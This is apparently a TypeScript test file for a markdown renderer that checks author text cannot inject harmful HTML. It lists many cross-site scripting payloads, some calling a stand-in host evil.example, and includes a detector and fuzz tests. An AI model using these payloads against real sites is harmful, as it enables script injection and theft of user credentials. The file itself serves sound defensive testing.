import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

const elements = ['p', 'em', 'strong', 'ul', 'ol', 'li', 'blockquote', 'h2', 'h3', 'a', 'br', 'hr', 'abbr'];

/** What in this HTML a page should not get; empty when it is harmless. */
function harm(html: string): string[] {
	const found: string[] = [];
	const rest = html.replace(
		/<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/g,
		(tag, name: string, attributes: string) => {
			if (!elements.includes(name)) found.push(tag);
			for (const [, attribute, value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
				const plain = value.replace(/&#x([0-9a-f]+);/gi, (_, code: string) =>
					String.fromCodePoint(parseInt(code, 16)),
				);
				const link =
					name === 'a' && attribute === 'href' && !/^(?!https:|mailto:)[^/?#]*:/i.test(plain.trim());
				if (!link && !(name === 'abbr' && attribute === 'title')) found.push(tag);
			}
			return '';
		},
	);
	if (rest.includes('<')) found.push(rest);
	return found;
}

const attacks = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'<iframe src="https://evil.example"></iframe>',
	'<a href="javascript:alert(1)" onclick="alert(1)">go</a>',
	'<form action="https://evil.example"><input name="password"></form>',
	'<style>body { display: none }</style>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0; url=https://evil.example">',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<!--><img src=x onerror=alert(1)>-->',
	'<p onmouseover="alert(1)" style="position: fixed">over</p>',
	'![a picture](https://evil.example/pixel.png)',
	'![a picture][there]\n\n[there]: https://evil.example/pixel.png',
	'[go](javascript:alert(1))',
	'[go](JaVaScRiPt:alert(1))',
	'[go](&#106;avascript:alert(1))',
	'[go](<java\tscript:alert(1)>)',
	'[go](javascript&colon;alert(1))',
	'[go](data:text/html;base64,PHNjcmlwdD4=)',
	'[go](vbscript:msgbox)',
	'[go][there]\n\n[there]: javascript:alert(1)',
	'<javascript:alert(1)>',
	'[go](https://ok.example "x\\" onclick=\\"alert(1)")',
	'`<script>alert(1)</script>`',
	'```html\n<script>alert(1)</script>\n```',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'# <script>alert(1)</script>',
	'> <iframe srcdoc="<script>alert(1)</script>">',
	':b[c]{onclick="alert(1)" style="x"}',
	'{@html "<script>"} {{constructor.constructor("alert(1)")()}}',
];

describe('what an author writes', () => {
	it.each(attacks)('does no harm on the page: %s', (attack) => {
		const inOption = `:::option[${attack.split('\n')[0]?.replaceAll(']', '')}]{#a}\n${attack}\n:::\n`;
		for (const text of [attack, `Before ${attack} after`, `- ${attack}\n- two`, `**${attack}**`, inOption]) {
			const { html, options } = renderMarkdown(text, 1);
			expect([html, ...options.map(({ feedback }) => feedback)].flatMap(harm), text).toEqual([]);
		}
	});

	it('does no harm however it is put together', () => {
		const pieces = fc.constantFrom(
			...attacks,
			'"',
			"'",
			'<',
			'>',
			'\n',
			'\n\n',
			'](',
			':::',
			'{#a}',
			'> ',
			'- ',
			'href=',
		);
		const text = fc.array(fc.oneof(pieces, fc.string({ unit: 'grapheme', maxLength: 6 })), { maxLength: 12 });
		fc.assert(
			fc.property(text, (parts) => {
				const { html, options } = renderMarkdown(parts.join(''), 1);
				expect([html, ...options.map(({ feedback }) => feedback)].flatMap(harm)).toEqual([]);
			}),
			{ numRuns: process.env.UPSTANDER_FULL ? 5000 : 300 },
		);
	});

	it('is recognized as harm by this test, if it were there', () => {
		for (const bad of [
			'<script>',
			'<p onclick="x">',
			'<a href="javascript:x">',
			'<a href="&#x6A;avascript:x">',
			'<img>',
		]) {
			expect(harm(bad), bad).not.toEqual([]);
		}
		expect(harm('<p>A <a href="https://ok.example/?a=1:2">link</a></p>')).toEqual([]);
	});

	it('keeps what it means', () => {
		const text =
			'## Why\n\nA *quiet* **move**, [found here](https://ok.example), or [write](mailto:a@ok.example).\n\n- one\n';
		expect(renderMarkdown(text, 1).html).toBe(
			'<h2>Why</h2>\n<p>A <em>quiet</em> <strong>move</strong>, <a href="https://ok.example">found here</a>, ' +
				'or <a href="mailto:a@ok.example">write</a>.</p>\n<ul>\n<li>one</li>\n</ul>',
		);
	});

	it('may hold times, ratios and words that look like directives', () => {
		const text = 'At 3:15 a.m. the ratio was 1:8, and :this[is]{#no} option.';
		expect(renderMarkdown(text, 1)).toEqual({ html: `<p>${text}</p>`, options: [], problems: [] });
	});

	it('gives its options, with the words alone in their labels', () => {
		const { options, html } = renderMarkdown(
			'Hello\n\n:::option[Ask *her* <b>now</b>]{#ask}\n*Why* not.\n:::\n',
			5,
		);
		expect(options).toEqual([
			{ id: 'ask', label: 'Ask her <b>now</b>', feedback: '<p><em>Why</em> not.</p>', line: 7 },
		]);
		expect(html).toBe('<p>Hello</p>');
	});
});
